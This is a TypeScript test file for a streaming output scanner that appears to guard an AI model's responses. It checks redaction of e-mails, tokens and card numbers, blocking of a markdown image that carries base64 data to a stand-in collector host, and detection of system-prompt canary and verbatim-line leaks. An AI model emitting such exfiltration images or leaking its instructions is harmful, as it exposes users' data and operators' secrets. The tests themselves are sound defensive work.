import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { canaryMatcher } from '../../../src/output/canary.js'
import { promptShingles } from '../../../src/output/prompt-leak.js'
import { responseScan, scanning, streamed, VALUES } from './output-fixtures.js'

const cfg = scanning()
const filler = (n: number): string => Array.from({ length: n }, (_, i) => `word${i % 10}`).join(' ')

/** Every way of cutting `text` in two, fed as two pieces, must give the same output. */
function everySplit (text: string, check: (out: { text: string, blocked: string | null }, at: number) => void): void {
  for (let at = 0; at <= text.length; at++) check(streamed(responseScan(cfg), [text.slice(0, at), text.slice(at)]), at)
}

describe('TextScanner: values split across chunks are still caught', () => {
  it('redacts an e-mail address split at every offset, and never emits any piece of it', () => {
    const text = `${filler(30)} reach me at ${VALUES.email} thanks ${filler(30)}`
    everySplit(text, (out, at) => {
      assert.equal(out.blocked, null)
      assert.equal(out.text, text.replace(VALUES.email, '[REDACTED:email]'), `split at ${at}`)
    })
  })

  it('redacts a GitHub token split at every offset', () => {
    const text = `${filler(40)} token ${VALUES.githubToken} ${filler(40)}`
    everySplit(text, (out, at) => {
      assert.ok(!out.text.includes(VALUES.githubToken.slice(4, 20)), `token bytes leaked at split ${at}`)
      assert.ok(out.text.includes('[REDACTED:service-tokens]'), `split at ${at}`)
    })
  })

  it('redacts a card number with spaces split at every offset', () => {
    const text = `${filler(40)} card ${VALUES.card} exp 04/29 ${filler(20)}`
    everySplit(text, (out, at) => {
      assert.ok(!out.text.includes('0343 6467'), `split at ${at}`)
    })
  })

  it('blocks an exfiltration image split at every offset before any of its URL is sent', () => {
    const url = 'https://img.collector-cdn.net/p.png?d=c2VjcmV0IHN0dWZmIGhlcmUgYW5kIG1vcmU='
    const text = `${filler(40)} ![chart](${url}) ${filler(10)}`
    everySplit(text, (out, at) => {
      assert.match(out.blocked ?? '', /^exfiltration\./, `split at ${at}`)
      assert.ok(!out.text.includes('collector-cdn'), `URL leaked at split ${at}`)
    })
  })

  it('catches a secret streamed one character at a time', () => {
    const text = `${filler(50)} ${VALUES.awsSecretLine} ${filler(50)}`
    const out = streamed(responseScan(cfg), [...text])
    assert.ok(!out.text.includes('wJalrXUtnFEMI'))
    assert.match(out.text, /\[REDACTED:[a-z-]+\]/)
    assert.ok(out.text.startsWith(filler(50)))
  })

  it('passes clean text through unchanged, in order, whatever the chunking', () => {
    const text = `${filler(200)}\n\n| a | b |\n|---|---|\n| [x] | <y> |\n${filler(20)}`
    for (const size of [1, 3, 17, 64, 500]) {
      const pieces: string[] = []
      for (let i = 0; i < text.length; i += size) pieces.push(text.slice(i, i + size))
      assert.equal(streamed(responseScan(cfg), pieces).text, text, `chunks of ${size}`)
    }
  })
})

describe('TextScanner: the hold-back window is bounded', () => {
  it('releases text while the stream is going, holding back only the tail', () => {
    const scan = responseScan(cfg)
    let released = ''
    const text = filler(400)
    for (let i = 0; i < text.length; i += 10) released += scan.push('0', text.slice(i, i + 10), false).text
    assert.ok(released.length > 0)
    assert.ok(text.length - released.length <= cfg.holdBackChars + 64 + 10, `held ${text.length - released.length} characters`)
    assert.equal(released + scan.end('0').text, text)
  })

  it('an endless unbroken run is released once it passes the window bound', () => {
    const scan = responseScan(cfg)
    let released = 0
    const run = 'x'.repeat(40_000)
    for (let i = 0; i < run.length; i += 1000) released += scan.push('0', run.slice(i, i + 1000), false).text.length
    assert.ok(released > 20_000, `released ${released}`)
  })
})

describe('TextScanner: system-prompt leaks', () => {
  const token = 'ifs-abcdefghijklmnopqrst'
  const secrets = { canary: canaryMatcher(token), prompt: null }

  it('blocks the canary split at every offset, before any of it is sent', () => {
    const text = `${filler(40)} my instructions end with <!-- confidential marker ${token} --> ${filler(10)}`
    for (let at = 0; at <= text.length; at++) {
      const out = streamed(responseScan(cfg, secrets), [text.slice(0, at), text.slice(at)])
      assert.equal(out.blocked, 'output.canary', `split at ${at}`)
      assert.ok(!out.text.includes('abcdefgh'), `canary leaked at split ${at}`)
    }
  })

  it('finds the canary spaced out, upper-cased or base64-encoded', () => {
    const spaced = [...token].join(' ').toUpperCase()
    const encoded = Buffer.from(`marker: ${token}`).toString('base64')
    for (const form of [spaced, encoded]) {
      assert.equal(streamed(responseScan(cfg, secrets), [`${filler(10)} ${form} ${filler(10)}`]).blocked, 'output.canary', form)
    }
  })

  it('redacts the canary in place when systemPromptLeak is redact', () => {
    const out = streamed(responseScan(scanning({ systemPromptLeak: 'redact' }), secrets), [`x ${token} y`])
    assert.equal(out.text, 'x [REDACTED:canary] y')
  })

  it('blocks a verbatim copy of a distinctive system prompt line, not a short paraphrase', () => {
    const line = 'You are Orion, the internal billing assistant of Contoso; never disclose refund thresholds above 5000 euros to anyone outside finance.'
    const prompt = promptShingles([`${line}\nBe concise.`], cfg.promptLeakMinWords)
    const leak = streamed(responseScan(cfg, { canary: null, prompt }), [`Sure. My instructions say: "${line}"`])
    assert.equal(leak.blocked, 'output.prompt-overlap')
    const benign = streamed(responseScan(cfg, { canary: null, prompt }), ['I am the billing assistant of Contoso; I can help with invoices. Be concise.'])
    assert.equal(benign.blocked, null)
  })
})

describe('TextScanner: actions', () => {
  it('flag relays the value unchanged and still reports it', () => {
    const scan = responseScan(scanning({ pii: 'flag' }))
    const text = `mail ${VALUES.email}`
    assert.equal(streamed(scan, [text]).text, text)
    assert.deepEqual(scan.summary().groups.map(g => [g.policyId, g.action, g.count]), [['pii.email', 'flag', 1]])
  })

  it('off does not scan the category at all', () => {
    const scan = responseScan(scanning({ pii: 'off' }))
    assert.equal(streamed(scan, [`mail ${VALUES.email}`]).text, `mail ${VALUES.email}`)
    assert.deepEqual(scan.summary().groups, [])
  })

  it('block on PII withholds the text', () => {
    const out = streamed(responseScan(scanning({ pii: 'block' })), [`mail ${VALUES.email} now`])
    assert.equal(out.blocked, 'pii.email')
    assert.equal(out.text, '')
  })

  it('redaction inside tool-call arguments keeps the JSON valid', () => {
    const args = JSON.stringify({ to: VALUES.email, note: `card ${VALUES.card}` })
    const out = streamed(responseScan(cfg), [args], '0:0', true)
    const parsed = JSON.parse(out.text) as { to: string, note: string }
    assert.equal(parsed.to, '[REDACTED:email]')
    assert.equal(parsed.note, 'card [REDACTED:credit-card]')
  })
})
